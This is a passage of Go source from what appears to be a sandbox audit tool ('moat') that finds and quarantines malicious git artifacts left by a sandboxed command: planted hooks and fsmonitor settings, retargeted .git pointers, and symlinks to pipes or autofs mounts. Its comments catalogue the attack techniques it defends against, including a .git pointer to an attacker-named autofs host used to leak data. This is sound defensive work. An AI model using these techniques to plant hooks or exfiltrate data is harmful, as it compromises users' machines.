				why := "a symlink in a git directory made during the run that leads out of the writable trees: git writes its messages and reflogs through it (COMMIT_EDITMSG, MERGE_MSG, FETCH_HEAD, logs/), into a file the command could not write"
				if real, err := evalSymlinks(p); err == nil && (a.inRoots(real) || loose) {
					// git also reads through it: a link to a named pipe or
					// device (.git/info/exclude -> ../../pipe, a ref, a
					// loose object) hangs the user's every git status as
					// the pipe itself would, and a directory it leads to
					// (.git/info -> ../d) holds what git opens there by
					// name (attack pass 78)
					fi, err := stat(real)
					switch {
					case err != nil:
						continue
					case fi.IsDir() && !loose:
						if !linked[real] {
							linked[real] = true
							dirs = append(dirs, real)
						}
						continue
					case !blocksOpen(fi.Mode().Type()):
						continue
					}
					why = "a symlink in a git directory made during the run that leads to a named pipe or device: git opens the file by its name there and waits on the pipe for good, so the user's every git status or commit would hang"
				} else if loose {
					continue
				}
				a.judgedAs(p, lid)
				if real, ok := a.actionable(filepath.Join(physical(dir), e.Name())); ok {
					a.quarantine(real, why)
				}
			}
		}
	}
}

// blocksOpen reports a file type whose open(2) may wait or act on a
// device instead of reading data: a named pipe (git's plain open of one
// waits for a writer for good) and device nodes. git makes none of them;
// a socket it does (fsmonitor's), and moat's own placeholders outside git
// directories are sockets, so sockets are not among them.
func blocksOpen(t fs.FileMode) bool {
	return t&(fs.ModeNamedPipe|fs.ModeDevice|fs.ModeCharDevice) != 0
}

// blockingFile takes out p, a named pipe or device node (blocksOpen) that
// git would open by its name, if the run made it.
func (a *auditor) blockingFile(p, why string) {
	fi, err := lstat(p)
	if err != nil || !blocksOpen(fi.Mode().Type()) {
		return
	}
	lid := idOf(fi)
	if !a.changedAt(p, lid) {
		return
	}
	a.judgedAs(p, lid)
	if real, ok := a.changedActionable(p); ok {
		a.quarantine(real, why)
	}
}

// insideGitAdmin reports a directory inside a .git directory (worktree and
// submodule administrative directories are evaluated from their
// repository, not as bare repositories of their own).
func insideGitAdmin(dir string) bool {
	return strings.Contains(dir+"/", "/.git/")
}

func (a *auditor) viaDotGit(worktree, dotgit string) {
	lfi, err := lstat(dotgit)
	if err != nil {
		return
	}
	lid := idOf(lfi)
	a.judgedAs(dotgit, lid)
	var res []string
	if (lfi.Mode()&fs.ModeSymlink != 0 || lfi.Mode().IsRegular()) && procOnWay(rawPointer(dotgit)) {
		// A .git symlink or file whose way passes through /proc or
		// /dev/fd, changed or not (a directory on its way may have been
		// swapped): it leads elsewhere for git than for moat.
		if real, ok := a.actionable(dotgit); ok {
			a.quarantine(real, "a .git pointer whose way passes through /proc or /dev/fd: it leads elsewhere for git than for moat")
			return
		}
	}
	if (lfi.Mode()&fs.ModeSymlink != 0 || lfi.Mode().IsRegular()) && autofsOnWay(rawPointer(dotgit), true) {
		// A .git symlink or file leading below an autofs mount nothing
		// covers (sub/.git -> /net/DATA.attacker.tld/x): the user's git,
		// like the audit, would ask the host's automounter for the name
		// (attack pass 56, autofs.go). It goes where the audit may act;
		// the user's own is left, and not followed.
		take := ""
		if a.changedAt(dotgit, lid) {
			take = dotgit
		} else if link := a.changedLinkOnWay(rawPointer(dotgit)); link != "" {
			take = link // the run's symlink on the way of the user's pointer
		}
		if real, ok := a.changedActionable(take); ok && take != "" {
			a.quarantine(real, autofsWhy("a .git pointer"))
		}
		return
	}
	if lfi.Mode()&fs.ModeSymlink != 0 {
		// git follows a symlinked .git.
		real := mustReal(dotgit)
		if a.pointer(dotgit, real, a.changedAt(dotgit, lid)) {
			res = append(res, dotgit)
		}
		fi, err := stat(dotgit)
		if err != nil {
			return
		}
		if fi.IsDir() {
			a.repo(real, worktree, res)
			return
		}
	} else if lfi.IsDir() {
		a.reach(dotgit)
		if a.gitMovedIn(worktree, lid) {
			a.fresh[dotgit] = true
		}
		a.repo(dotgit, worktree, nil)
		return
	}
	// A .git file: "gitdir: <path>".
	target, id, canonical, ok := readGitfile(dotgit)
	if !ok {
		return
	}
	changed := a.changedAt(dotgit, id)
	if changed && !canonical {
		if real, ok := a.actionable(dotgit); ok {
			a.quarantine(real, "a .git file written during the run in a form git and other readers of it may take for different directories (space around the path, a line break or a NUL in it, or a path through /proc that leads elsewhere for git than for moat): git goes to "+quoteName(target))
		}
	}
	if a.pointer(dotgit, target, changed) {
		res = append(res, dotgit)
	}
	a.repo(target, worktree, res)
}

// pointer records where a pointer file (a .git file or symlink, a
// commondir) leads now, and reports whether it made git find a repository
// during the run: the pointer changed during the run and led elsewhere at
// the last audit (or there was none), or it did not change but leads to
// another directory than at the last audit (a symlink or directory put at
// the path it names: what the target holds may date from an earlier run).
// A retargeted pointer's target is judged whole, as moved in.
func (a *auditor) pointer(file, target string, changed bool) bool {
	key := target + "\x00" + dirIdentity(target)
	if a.next != nil {
		if a.unsettledAt(ctimeOf(file, lstat)) || a.unsettledAt(ctimeOf(target, stat)) {
			if a.cache != nil {
				if old, ok := a.cache.redirects[file]; ok {
					a.next.redirects[file] = old
				}
			}
		} else {
			a.next.redirects[file] = key
		}
	}
	if a.cache != nil {
		if old, ok := a.cache.redirects[file]; ok && old != key {
			// It led elsewhere at the last audit. Its target is judged
			// whole only if the pointer, or something on its way, changed
			// during the run: what changed between two runs is not the
			// sandbox's (another user who retargeted a .git file of theirs
			// at root's repository had root's audit rewrite root's config
			// and move its hooks out: found by an attack pass,
			// TestAuditOtherUsersRetargetedPointer); a symlink on its way
			// retargeted during the run is (TestAuditPointerRetargetedBySandbox).
			if a.changed(fileID{ctime: ctimeOf(file, lstat)}) || a.wayChangedInRun(target) || a.wayChangedInRun(physical(target)) || a.changedLinkOnWay(rawPointer(file)) != "" {
				a.fresh[target] = true
			}
			return true
		}
	}
	return changed && !a.knewRedirect(file, key)
}

// wayChangedInRun reports whether anything on p's way inside the roots
// (each directory or symlink met while p is resolved as the kernel
// resolves it, walkWay) changed during the run, or was moved in with a
// directory. A loop of symlinks counts as changed.
func (a *auditor) wayChangedInRun(p string) bool {
	found, loop := walkWay(p, func(next string, fi fs.FileInfo, _ string) bool {
		return a.inRoots(next) && a.changedAt(next, idOf(fi))
	})
	return loop || found != ""
}

// linkedAway reports a file git or moat reads (a config or a file it
// includes, a hooks directory or a hook, a settings file) that is reached
// through a symlink, on it or on a directory of its way, and leads to
// another file or directory than at the last audit. Renaming a directory
// keeps the change times of everything in it: a symlinked config whose
// target's directory was renamed away, and another directory (staged in an
// earlier run, plain data then) renamed into its place, read as old
// everywhere the change times are looked at (found by an outside attack
// pass). It records where p leads now, as pointer does for pointer files;
// without a record from the last audit nothing is reported.
func (a *auditor) linkedAway(p string) bool {
	real := leadsTo(p)
	if real == filepath.Clean(p) {
		return false
	}
	way := a.wayOf(real)
	key := real + "\x00" + strings.Join(way, "\x01")
	if a.next != nil {
		// A sandbox still running may be in the middle of a swap: keep
		// the last record, so that the audit after it compares with it.
		unsettled := a.unsettledAt(ctimeOf(p, lstat))
		for _, w := range way {
			path, _, _ := strings.Cut(w, "\x00")
			unsettled = unsettled || a.unsettledAt(ctimeOf(path, lstat))
		}
		if unsettled {
			if a.cache != nil {
				if old, ok := a.cache.redirects[p]; ok {
					a.next.redirects[p] = old
				}
			}
		} else {
			a.next.redirects[p] = key
		}
	}
	if a.cache == nil {
		return false
	}
	old, ok := a.cache.redirects[p]
	if !ok || old == key {
		return false
	}
	// It led elsewhere at the last audit: the sandbox's doing only if what
	// changed on the way changed during the run (a directory renamed into
	// place is stamped by the rename, a symlink retargeted stamps itself);
	// the user's own change between two runs is not judged.
	if a.changed(fileID{ctime: ctimeOf(p, lstat)}) {
		return true
	}
	_, oldWay, _ := strings.Cut(old, "\x00")
	was := map[string]bool{}
	for _, w := range strings.Split(oldWay, "\x01") {
		was[w] = true
	}
	for _, w := range way {
		if was[w] {
			continue
		}
		path, _, _ := strings.Cut(w, "\x00")
		if a.changed(fileID{ctime: ctimeOf(path, lstat)}) {
			return true
		}
	}
	return false
}

// wayOf is the identity (path and device:inode, "-" where nothing is) of
// each directory on the way to real below the tree's root, and of real
// itself unless it is a file: what a rename can swap. A file's own inode
// is left out: an editor's save renames a new file over the old one, and
// a file written or renamed during the run is stamped then (its change
// time is judged as it is).
func (a *auditor) wayOf(real string) []string {
	var out []string
	for d := real; a.inRoots(d); d = filepath.Dir(d) {
		if d == real {
			if fi, err := stat(d); err == nil && !fi.IsDir() {
				continue
			}
		}
		if a.isRoot(d) {
			break
		}
		out = append(out, d+"\x00"+identity(d))
		if d == filepath.Dir(d) {
			break
		}
	}
	slices.Reverse(out)
	return out
}

// isRoot reports d is one of the audited roots.
func (a *auditor) isRoot(d string) bool {
	return slices.Contains(a.o.Roots, d)
}

// leadsTo is the path p leads to after symlinks, as far as they lead: a
// dangling symlink's target (resolved as far as it exists), so that a
// target put there in a later run is a change from the record of this one
// (a dangling hooks symlink whose directory was renamed into place later
// escaped: found by an outside attack pass).
func leadsTo(p string) string {
	if real, err := evalSymlinks(p); err == nil {
		return real
	}
	fi, err := lstat(p)
	if err != nil || fi.Mode()&fs.ModeSymlink == 0 {
		return physical(p)
	}
	t, err := readlink(p)
	if err != nil {
		return physical(p)
	}
	if !filepath.IsAbs(t) {
		t = filepath.Join(physical(filepath.Dir(p)), t)
	}
	return physical(t)
}

// identity is the device and inode of what p leads to, "-" if nothing.
func identity(p string) string {
	fi, err := stat(p)
	if err != nil {
		return "-"
	}
	id := idOf(fi)
	return fmt.Sprintf("%d:%d", id.dev, id.ino)
}

// ctimeOf is p's change time (0 if it cannot be read).
func ctimeOf(p string, stat func(string) (os.FileInfo, error)) int64 {
	fi, err := stat(p)
	if err != nil {
		return 0
	}
	return idOf(fi).ctime
}

// dirIdentity is the device and inode of the directory p leads to, "-" if
// there is none.
func dirIdentity(p string) string {
	fi, err := stat(p)
	if err != nil || !fi.IsDir() {
		return "-"
	}
	id := idOf(fi)
	return fmt.Sprintf("%d:%d", id.dev, id.ino)
}

// gitMovedIn reports a .git directory put in worktree during the run: the
// last audit saw worktree without one, or with another.
func (a *auditor) gitMovedIn(worktree string, id fileID) bool {
	if !a.changed(id) {
		return false
	}
	old, ok := a.cache.old(worktree)
	return ok && (old.flags&flagDotGit == 0 || old.git.dev != id.dev || old.git.ino != id.ino)
}

// ---- one repository -----------------------------------------------------

// repo evaluates the git directory g (found from worktree, "" for a bare
// one); resolution lists the files changed during the run that made git
// find it.
func (a *auditor) repo(g, worktree string, resolution []string) {
	key := g + "\x00" + worktree
	if a.seen[key] && len(resolution) == 0 {
		return
	}
	a.seen[key] = true
	a.reachPath(filepath.Join(g, "HEAD"))
	common := g
	if c, id, canonical, ok := readCommondir(g); ok {
		common = c
		cd := filepath.Join(g, "commondir")
		if lid, err := lstatID(cd); err == nil {
			a.judgedAs(cd, lid)
		}
		changed := a.changedAt(cd, id)
		if procOnWay(rawPointer(cd)) {
			canonical, changed = false, true // leads elsewhere for git than for moat
		}
		if autofsOnWay(rawPointer(cd), true) {
			// Below an autofs mount nothing covers (attack pass 56,
			// autofs.go): one the run wrote goes; nothing resolves it.
			if real, ok := a.actionable(cd); ok && changed {
				a.quarantine(real, autofsWhy("a commondir"))
			}
			return
		}
		if changed && !canonical {
			if real, ok := a.actionable(cd); ok {
				a.quarantine(real, "a commondir written during the run in a form git and other readers of it may take for different directories (space around the path, a line break or a NUL in it, or a path through /proc that leads elsewhere for git than for moat): git goes to "+quoteName(c))
			}
		}
		if a.pointer(cd, c, changed) {
			resolution = append(resolution, cd)
		}
	}
	a.outLinks(g)
	if common != g {
		a.outLinks(common)
	}
	a.reachPath(filepath.Join(common, "config"))
	configs := []string{filepath.Join(common, "config"), filepath.Join(g, "config.worktree")}
	var entries []Entry
	for _, c := range configs {
		if es := a.configFile(c, 0); entries == nil {
			entries = es[:len(es):len(es)] // (an append copies)
		} else {
			entries = append(entries, es...)
		}
	}
	// Hooks: the repository's own directory, and every core.hooksPath that
	// git could use for it (the repository's and the user's).
	hookDirs := []string{filepath.Join(common, "hooks")}
	base := worktree
	if base == "" {
		base = g
	}
	// A relative core.hooksPath is taken from the directory git runs the
	// hook in: the work tree for a commit, but the git directory for the
	// hooks of a push into the repository (receive-pack enters .git, or
	// .git/worktrees/NAME): a pre-receive put in .git/.githooks, where the
	// walk never goes, ran on the user's push to the repository (found by
	// attack pass 51: TestAuditRelativeHooksPathInGitDir).
	bases := []string{base}
	if worktree != "" {
		bases = append(bases, g, common)
	}
	for _, e := range entries {
		if e.Name == "core.hookspath" && e.HasValue {
			for _, b := range bases {
				hookDirs = append(hookDirs, a.resolve(e.Value, b))
			}
		}
	}
	for _, b := range bases {
		if !slices.Contains(a.bases, b) {
			a.bases = append(a.bases, b)
		}
	}
	for _, h := range append(append([]string(nil), a.globalHooks...), a.lateHooks...) {
		for _, b := range bases {
			hookDirs = append(hookDirs, a.resolve(h, b))
		}
	}
	hooks := false
	for i, h := range hookDirs {
		if slices.Contains(hookDirs[:i], h) {
			continue
		}
		if a.hookDir(h) {
			hooks = true
		}
	}
	// What remains risky after the changed files were dealt with, and
	// whether it is the user's (a config moat kept read-only).
	danger := ""
	for _, e := range entries {
		if r := Risk(e); r != "" && !a.ownWorktree(filepath.Join(common, "config"), e) {
			danger = r
			break
		}
	}
	if danger == "" && hooks {
		danger = "its hooks run on git commands"
	}
	if danger != "" && len(resolution) > 0 && !a.o.Protected(filepath.Join(common, "config")) {
		for _, r := range resolution {
			if real, ok := a.actionable(r); ok {
				a.quarantine(real, "makes git use the repository "+common+", whose configuration the user did not protect: "+danger)
			}
		}
	}
	// A directory that git did not take for a repository before the run
	// (a HEAD, objects/ or refs/ missing: a dormant one a tarball shipped,
	// its core.fsmonitor never run) and that the run completed is a new
	// repository, whatever protected its config during the run: the
	// user's git never used that config. What completed it goes (attack
	// pass 82: mkdir sub/.git/refs, and the user's next git status in sub
	// ran the shipped fsmonitor; TestAuditDormantRepositoryCompleted).
	if danger != "" {
		for _, m := range a.completedRepository(g, common) {
			if real, ok := a.changedActionable(m); ok {
				a.quarantine(real, "completed "+common+" as a git repository during the run (git takes a directory with HEAD, objects/ and refs/ for one), whose configuration or hooks git never used before: "+danger)
			}
		}
	}
	// A repository the user's git pushes to or fetches from by a local path,
	// hidden inside a git directory (where the walk never goes), is judged
	// whole: a push runs its hooks (a bare repository hidden in .git,
	// pushed to through remote.*.url or a legacy .git/remotes file, ran its
	// pre-receive hook: found by an attack pass). One elsewhere in the
	// trees is the walk's like any other.
	// Each as the user's git rewrites it (url.<base>.insteadOf and
	// pushInsteadOf of the user's files and of the repository's config):
	// a URL the audit took for the network's was a local path for the
	// user's git (attack pass 61).
	urls := remoteURLs(entries, a.global.rewrites)
	for _, u := range legacyRemoteURLs(common) {
		urls = append(urls, rewrittenURLs(u, true, append(append([]urlRewrite(nil), a.global.rewrites...), remoteRewrites(entries)...))...)
	}
	for _, u := range urls {
		a.hiddenRemote(u, base)
	}
	// A submodule's git directory named by submodule.<name>.gitdir (git
	// 2.52+, extensions.submodulePathConfig) is judged like a remote's.
	commonConfig := filepath.Join(common, "config") // (once: a repository may have a config of 25,000 entries)
	a.branchIncludes(g, commonConfig, entries)
	for _, e := range entries {
		a.hiddenGitdir(commonConfig, e)
	}
	// Legacy remote definitions (.git/remotes/NAME "URL: ...", .git/branches/NAME)
	// name where git pushes as a config's remotes do: one the command wrote
	// is taken out (a bare repository hidden in .git, pushed to that way,
	// ran its pre-receive hook: found by an attack pass). Git itself no
	// longer writes them.
	for _, d := range []string{"remotes", "branches"} {
		dir := filepath.Join(common, d)
		a.reach(dir)
		es, err := readDir(dir)
		if err != nil {
			continue
		}
		for _, e := range es {
			p := filepath.Join(dir, e.Name())
			id, err := lstatID(p)
			if err != nil || e.IsDir() {
				continue
			}
			swapped := a.linkedAway(p)
			changed := a.changedAt(p, id) || swapped
			if changed && !swapped && a.protectedFile(p) {
				changed = id.ctime > a.start
			}
			a.judgedAs(p, id)
			if real, ok := a.changedActionable(p); changed && ok {
				a.quarantine(real, "a legacy git remote ("+d+"/) written by the sandboxed command: it names where git pushes")
			}
		}
	}
	// Linked worktrees and submodules have git directories of their own.
	a.reach(filepath.Join(common, "worktrees"))
	if wts, err := readDir(filepath.Join(common, "worktrees")); err == nil {
		for _, w := range wts {
			if w.IsDir() {
				a.repo(filepath.Join(common, "worktrees", w.Name()), "", nil)
			}
		}
	}
	a.modules(filepath.Join(common, "modules"), 0)
	if g != common {
		// A linked worktree's submodules have their git directories in
		// its own git directory (git shares "modules" with no worktree):
		// a fsmonitor or hook planted in .git/worktrees/W/modules/NAME
		// ran on the user's git status or submodule update in that
		// worktree (attack pass 68, TestAuditWorktreeModules).
		a.modules(filepath.Join(g, "modules"), 0)
	}
	a.sequencer(g, worktree)
	a.replaceRefs(common)  // replace.go
	a.objectCaches(common) // replace.go
}

// modules judges every git directory git submodule may take under dir
// (a repository's modules/): git uses modules/NAME for submodule NAME,
// whatever exists there (file_exists), NAME being any path without ".."
// that .gitmodules, the tree's content, names, and each of its
// components may be a symlink. The walk stopped at 8 levels and skipped
// symlinks: a git directory at modules/a/b/c/d/e/f/g/h/i/j, or at
// modules/a/evil with modules/a a symlink to a directory hidden in .git,
// kept its post-checkout hook, which the user's git submodule update ran
// (found by attack pass 53, TestAuditSubmoduleGitDirDeepOrSymlinked).
// Every directory under dir is walked now, counted in the audit's bound
// (past it the audit says it is incomplete); a symlink to a directory
// there that the run made or retargeted goes (git makes none), another
// is followed, each directory once.
func (a *auditor) modules(dir string, _ int) {
	if a.modSeen == nil {
		a.modSeen, a.modForeign = map[fileID]bool{}, map[fileID]bool{}
	}
	seen := a.modSeen
	var walk func(dir string)
	walk = func(dir string) {
		a.reach(dir)
		if fi, err := stat(dir); err == nil {
			id := idOf(fi)
			k := fileID{dev: id.dev, ino: id.ino}
			if seen[k] {
				return
			}
			seen[k] = true
			a.modForeign[k] = a.foreignLinkOnWay(dir) != ""
		}
		es, err := readDir(dir)
		if err != nil {
			if !errors.Is(err, fs.ErrNotExist) && !errors.Is(err, syscall.ENOTDIR) {
				a.rep.Incomplete = append(a.rep.Incomplete, fmt.Sprintf("%s: %v (submodule git directories there were not checked)", dir, err))
			}
			return
		}
		for _, e := range es {
			p := filepath.Join(dir, e.Name())
			if e.Type()&fs.ModeSymlink != 0 {
				fi, err := stat(p)
				if err != nil || !fi.IsDir() {
					continue
				}
				lid, err := lstatID(p)
				if err != nil {
					continue
				}
				if a.changedAt(p, lid) || a.linkedAway(p) {
					a.judgedAs(p, lid)
					if real, ok := a.actionable(p); ok {
						a.quarantine(real, "a symlink in a git directory's modules/ made during the run: git submodule takes what it leads to for a submodule's git directory, whose hooks and config the user's git submodule update runs")
						continue
					}
				}
				if real, err := evalSymlinks(p); err != nil || !a.inRoots(real) {
					// An old symlink out of the trees: nothing there is the
					// run's to have planted (another user's modules/x -> /
					// in a shared tree had root's audit read the whole
					// filesystem, 34 s and 17 warnings: attack pass 59).
					continue
				}
			} else if !e.IsDir() {
				continue
			}
			// A directory walked already, reached again through an old
			// symlink, is neither judged nor counted again (unless it was
			// first reached past another user's symlink, which
			// quarantineReached takes out rather than what it leads to):
			// a directory of symlinks to "." staged in one run and made a
			// repository's modules/ by a HEAD in the next used up the
			// audit's bound, and the walk of the tree stopped before a
			// repository whose hook the user's git then ran (attack pass
			// 59, TestAuditModulesSymlinksDoNotUseTheBound).
			if fi, err := stat(p); err == nil {
				id := idOf(fi)
				k := fileID{dev: id.dev, ino: id.ino}
				if foreign, ok := a.modForeign[k]; ok && !foreign && e.Type()&fs.ModeSymlink != 0 {
					continue
				}
			}
			if a.budget >= a.o.MaxDirs {
				a.rep.Incomplete = append(a.rep.Incomplete, fmt.Sprintf("%s: more than %d directories; submodule git directories past them were not checked", dir, a.o.MaxDirs))
				return
			}
			a.budget++
			if _, err := lstat(filepath.Join(p, "HEAD")); err == nil {
				a.repo(p, "", nil)
			}
			walk(p) // names may hold slashes; nested submodules (p/modules)
		}
	}
	walk(dir)
}

// parsedConfig is a config file's bytes and what ParseConfig made of them.
type parsedConfig struct {
	data []byte
	es   []Entry
	err  error
}

// maxParsedBytes bounds the config files parseConfig remembers.
const maxParsedBytes = 64 << 20

// parseConfig is ParseConfig of data, read from the file id: a file read
// again in this audit with the same bytes is not parsed again. One config
// of 800 KB hard-linked into 2,000 directories with a HEAD (each a
// repository to the walk) cost every later run in the tree 47 s of audit,
// from 17 MB of disk (attack pass 58; TestAuditHardLinkedConfigsParsedOnce).
// The entries returned are shared: append to them (a full slice
// expression: it copies), never write into them.
func (a *auditor) parseConfig(id fileID, data []byte) ([]Entry, error) {
	if len(data) < 4096 {
		return ParseConfig(data) // not worth remembering
	}
	if p, ok := a.parsed[id]; ok && bytes.Equal(p.data, data) {
		return p.es[:len(p.es):len(p.es)], p.err
	}
	es, err := ParseConfig(data)
	if a.parsedBytes+len(data) <= maxParsedBytes {
		if a.parsed == nil {
			a.parsed = map[fileID]parsedConfig{}
		}
		a.parsed[id] = parsedConfig{data: data, es: es, err: err}
		a.parsedBytes += len(data)
	}
	return es[:len(es):len(es)], err
}

// configFile evaluates one config file git would read, following its
// includes; it returns the entries that remain after any rewrite.
func (a *auditor) configFile(p string, depth int) []Entry {
	return a.configFileIn(p, depth, map[string]bool{})
}

// configFileIn is configFile within one config's includes, read: each
// file of them (by its name in the directory it really lies in, where its
// own relative includes lead from) is read once at each depth. Every
// include was followed wherever it led: a config including itself 20
// times (or through 20 symlinks to its directory, or a chain of files
// each including the next 20 times) was read 20^11 times, and the audit
// never ended; the run's other plants were never judged, and every moat
// after it hung on the killed run's audit (attack pass 59,
// TestAuditIncludeFanOutFinishes). The depth is part of the key: a file
// reached first at depth 10 is followed again when reached at depth 2,
// where git reads what it includes (TestAuditIncludeSeenDeeperFirst).
func (a *auditor) configFileIn(p string, depth int, read map[string]bool) []Entry {
	if depth > 10 {
		return nil
	}
	a.reachPath(p)
	if a.ownPlaceholder(p) {
		// moat's own mount point for a config that does not exist
		// (config.worktree with extensions.worktreeConfig): nothing git
		// reads, and not the command's.
		return nil
	}
	// A symlink made during the run on the way to a config git reads goes
	// before anything is resolved in the audit's own process: where it
	// leads may differ for git (/proc/self/cwd is git's work tree there,
	// the audit's directory here), so a path the audit finds dangling is
	// no reason to keep it.
	if link := a.wayLinkToTakeOut(p); link != "" && link != p {
		if real, ok := a.changedActionable(link); ok {
			a.quarantine(real, a.wayLinkWhy(link)+" on the way to a git config git reads ("+quoteName(p)+")")
			return nil
		}
	}
	lfi, err := lstat(p)
	if err != nil {
		if link := a.wayLinkToTakeOut(p); link != "" {
			if real, ok := a.changedActionable(link); ok {
				a.quarantine(real, a.wayLinkWhy(link)+" to a git config moat cannot reach ("+quoteName(p)+")")
			}
		}
		return nil
	}
	// Judged (and its entries given) once already at this depth, by this
	// name in this directory and with or without another user's symlink
	// on its way (what quarantineReached does differs): the same entries,
	// the same includes.
	key := strconv.Itoa(depth) + "\x00" + physical(filepath.Dir(p)) + "/" + filepath.Base(p)
	if a.foreignLinkOnWay(p) != "" {
		key += "\x00foreign"
	}
	if read[key] {
		return nil
	}
	read[key] = true
	data, id, err := readSmall(p, maxConfigSize)
	lid := idOf(lfi)
	changed := a.changedAt(p, lid) || err == nil && a.changed(id)
	if changed && a.protectedFile(p) {
		changed = lid.ctime > a.start || err == nil && id.ctime > a.start
	}
	if a.linkedAway(p) {
		changed = true
	}
	a.judgedAs(p, lid)
	real, ok := a.changedActionable(p)
	if changed && !ok && err == nil && lfi.Mode()&fs.ModeSymlink != 0 {
		// A symlink outside the trees (the user's: ~/cfg/git-local ->
		// ~/dotfiles/git-local) to a file in one that changed during the
		// run: the file is what is judged and rewritten. It was taken for
		// unchanged, the symlink being out of the audit's reach, and its
		// core.fsmonitor ran (found by attack pass 47).
		if t, terr := evalSymlinks(p); terr == nil && a.inRoots(t) && a.foreignLinkOnWay(p) == "" {
			if tfi, lerr := lstat(t); lerr == nil && tfi.Mode().IsRegular() && idOf(tfi) == id {
				a.judgedAs(t, id)
				if real, ok = a.changedActionable(t); ok {
					lfi = tfi
				}
			}
		}
	}
	if changed && ok && a.foreignLinkOnWay(p) != "" {
		// Reached through another user's symlink (a symlinked directory
		// on the include's way, in a shared tree or theirs outside):
		// what it leads to is not rewritten nor moved out; the symlink
		// goes where it lies in a tree (quarantineReached). A directory
		// symlink of theirs led root's audit to move out root's own file
		// the run changed, taken for a config it could not parse (attack
		// pass 52: TestAuditOtherUsersSymlinkLeadsToRunsFiles).
		if err != nil {
			a.quarantineReached(p, real, "a git config file git may read, that moat cannot read: "+err.Error())
			return nil
		}
		es, perr := a.parseConfig(id, data)
		if perr != nil {
			a.quarantineReached(p, real, "a git config file moat cannot parse the way git does ("+perr.Error()+")")
			return nil
		}
		var risks []string
		for _, e := range es {
			if r := Risk(e); r != "" && !a.ownWorktree(real, e) {
				risks = append(risks, e.Name+": "+r)
			} else if r := a.hiddenURL(real, e); r != "" {
				risks = append(risks, e.Name+": "+r)
			} else if r := a.procURL(real, e); r != "" {
				risks = append(risks, e.Name+": "+r)
			} else if r := a.autofsURL(real, e); r != "" {
				risks = append(risks, e.Name+": "+r)
			} else if r := a.gitdirOutsideModules(real, e); r != "" {
				risks = append(risks, e.Name+": "+r)
			}
		}
		if len(risks) > 0 && a.quarantineReached(p, real, "a git config that sets "+strings.Join(risks, "; ")) {
			return nil
		}
		return es
	}
	if changed && ok {
		p = real
		if err != nil {
			a.quarantine(p, "a git config file git may read, that moat cannot read: "+err.Error())
			return nil
		}
		es, perr := a.parseConfig(id, data)
		if perr != nil {
			a.quarantine(p, "a git config file moat cannot parse the way git does ("+perr.Error()+")")
			return nil
		}
		risk := func(e Entry) string {
			if r := Risk(e); r != "" && !a.ownWorktree(p, e) {
				return r
			}
			if r := a.hiddenURL(p, e); r != "" {
				return r
			}
			if r := a.procURL(p, e); r != "" {
				return r
			}
			if r := a.gitdirOutsideModules(p, e); r != "" {
				return r
			}
			return a.autofsURL(p, e)
		}
		var risks []string
		for _, e := range es {
			if r := risk(e); r != "" {
				risks = append(risks, e.Name+": "+r)
			}
		}
		keep := es // (parseConfig's, shared: no copy of a whole file's entries for each repository)
		if len(risks) > 0 {
			keep = nil
			for _, e := range es {
				if risk(e) == "" {
					keep = append(keep, e)
				}
			}
		}
		if len(risks) > 0 {
			if lfi.Mode()&fs.ModeSymlink != 0 {
				a.quarantine(p, "a git config (a symlink) that sets "+strings.Join(risks, "; "))
				return nil
			}
			a.rewrite(p, id, keep, strings.Join(risks, "; "))
		}
		return keep
	}
	if err != nil {
		return nil
	}
	es, perr := a.parseConfig(id, data)
	if perr != nil {
		return nil // the user's own file; git refuses it, so it runs nothing
	}
	out := es
	for _, e := range es {
		if (e.Section() == "include" || e.Section() == "includeif") && e.Key() == "path" && e.HasValue {
			// An include the user wrote pointing into a writable tree:
			// what the command wrote there is judged like any config.
			if inc := a.resolve(e.Value, filepath.Dir(p)); inc != "" {
				out = append(out, a.configFileIn(inc, depth+1, read)...)
			}
		}
	}
	return out
}

// hookDir quarantines hooks changed during the run in dir, and reports
// whether any hook remains.
//
// A hooks directory whose inode changed during the run had hooks added,
// removed or renamed, or was itself put there: every hook in it counts as
// changed (a hook moved in keeps the change time it had before).
func (a *auditor) hookDir(dir string) bool {
	a.reachPath(filepath.Join(dir, "x"))
	// A hooks directory reached through a symlink whose way was swapped
	// during the run is judged whole, protected or not: moat's read-only
	// mount of a symlinked hooks path holds the symlink, not the directory
	// it leads to. Recorded before the listing: a dangling symlink (no
	// directory yet) is recorded too.
	swapped := a.linkedAway(dir)
	if real := leadsTo(dir); real != filepath.Clean(dir) && (a.fresh[real] || a.inFresh(real)) {
		swapped = true // it leads into a directory moved in during the run
	}
	if link := a.wayLinkToTakeOut(dir); link != "" && (link != dir || !swapped) {
		// A symlink made during the run on the way to a hooks directory
		// (or the hooks directory itself): it goes, whatever the listing.
		// Whether or not the audit can reach its target: what a symlink
		// leads to may differ for git (/proc/self/cwd).
		{
			if real, ok := a.changedActionable(link); ok {
				a.quarantine(real, a.wayLinkWhy(link)+" on the way to a git hooks directory ("+quoteName(dir)+")")
				return false
			}
		}
	}
	es, err := readDir(dir)
	if err != nil {
		if link := a.wayLinkToTakeOut(dir); link != "" && !errors.Is(err, fs.ErrNotExist) {
			// Its hooks cannot be checked: the symlink the run made to
			// it goes.
			if real, ok := a.changedActionable(link); ok {
				a.quarantine(real, a.wayLinkWhy(link)+" to a git hooks directory moat cannot list ("+quoteName(dir)+")")
				return false
			}
		}
		if !errors.Is(err, fs.ErrNotExist) && !errors.Is(err, syscall.ENOTDIR) {
			// A hooks directory that is there but cannot be listed
			// (search-only) may hold a hook git runs all the same.
			a.rep.Incomplete = append(a.rep.Incomplete, fmt.Sprintf("%s: %v (its hooks were not checked)", dir, err))
		}
		return false
	}
	all := swapped
	if did, err := lstatID(dir); err == nil && a.changedAt(dir, did) {
		all = true
		if fi, err := lstat(dir); err == nil && fi.Mode()&fs.ModeSymlink != 0 && !swapped {
			// The symlink is what the run made (or moved in): it goes,
			// not the hooks of whatever directory it names (another
			// user's symlink to root's hooks made root's audit move them
			// out). Hooks changed in its target are judged there too.
			hooks := false
			for _, e := range es {
				hooks = hooks || !e.IsDir() && !strings.HasSuffix(e.Name(), ".sample")
			}
			if hooks {
				a.judgedAs(dir, did)
				if real, ok := a.changedActionable(dir); ok {
					a.quarantine(real, "a symlinked git hooks directory made during the run (it leads to "+quoteName(leadsTo(dir))+")")
					return false
				}
			}
			all = false
		}
	}
	remain := false
	for _, e := range es {
		if strings.HasSuffix(e.Name(), ".sample") {
			continue
		}
		p := filepath.Join(dir, e.Name())
		id, err := lstatID(p)
		if err != nil {
			continue
		}
		if e.IsDir() {
			continue // git runs files named after hooks only
		}
		changed := all || a.changedAt(p, id)
		if changed && !swapped && a.protectedFile(p) {
